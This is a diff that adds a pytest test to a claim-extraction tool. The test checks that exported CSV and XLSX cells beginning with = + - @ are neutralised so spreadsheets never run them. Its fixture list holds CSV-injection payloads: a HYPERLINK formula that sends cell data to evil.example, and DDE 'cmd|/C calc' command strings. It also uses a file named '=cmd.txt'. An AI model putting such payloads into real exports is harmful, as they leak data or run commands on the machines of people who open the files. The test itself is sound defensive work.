@@ -96,3 +96,49 @@ def test_codebook_yaml_cannot_build_python_objects(tmp_path):
     (tmp_path / "c.yml").write_text(text)
     with pytest.raises(CodebookError, match="not valid YAML"):
         load_codebook(tmp_path / "c.yml")
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Microneedling")',
+    "+cmd|' /C calc'!A0 microneedling may reduce acne scars.",
+    "-2+3+cmd|' /C calc'!A0 laser may cause burns.",
+    "@SUM(1+1)*cmd|' /C calc'!A0 chemical peels can fade melasma.",
+]
+
+
+def test_claims_and_the_coding_sheet_run_no_formula_and_read_back_as_written(tmp_path):
+    """OWASP CSV injection: text that opens a cell with = + - @ reaches
+    claims.csv, the coding sheet and its XLSX twin with an apostrophe in
+    front (a spreadsheet shows it, never runs it); reading them back gives
+    the text as the corpus had it."""
+    import csv
+
+    import openpyxl
+
+    from analysis.cli import main
+    from analysis.tables import FORMULA_START, read_table
+
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    (corpus / "=cmd.txt").write_text("\n\n".join(FORMULAS) + "\n", encoding="utf-8")
+    (corpus / "plain.txt").write_text(
+        "Microneedling.\n\nMicroneedling may reduce acne scars.\n", encoding="utf-8"
+    )
+    out = tmp_path / "out"
+    assert main(["extract", str(corpus), "--out", str(out / "claims.csv")]) == 0
+    assert main(["sample", str(corpus), "--n", "20", "--out", str(out / "sheet.csv")]) == 0
+    assert main(["sample", str(corpus), "--n", "20", "--out", str(out / "sheet.xlsx")]) == 0
+
+    for name in ("claims.csv", "sheet.csv"):
+        with (out / name).open(encoding="utf-8", newline="") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert not [c for c in cells if c.startswith(FORMULA_START)], name
+    sheet = openpyxl.load_workbook(out / "sheet.xlsx").active
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+
+    claims = read_table(out / "claims.csv")
+    assert "=cmd.txt" in set(claims["doc"])
+    assert any(s.startswith(("+cmd", "-2+3", "@SUM")) for s in claims["sentence"])
+    for sheet_file in ("sheet.csv", "sheet.xlsx"):
+        sentences = set(read_table(out / sheet_file)["sentence"])
+        assert any(s.startswith(("=HYPERLINK", "+cmd", "-2+3", "@SUM")) for s in sentences)
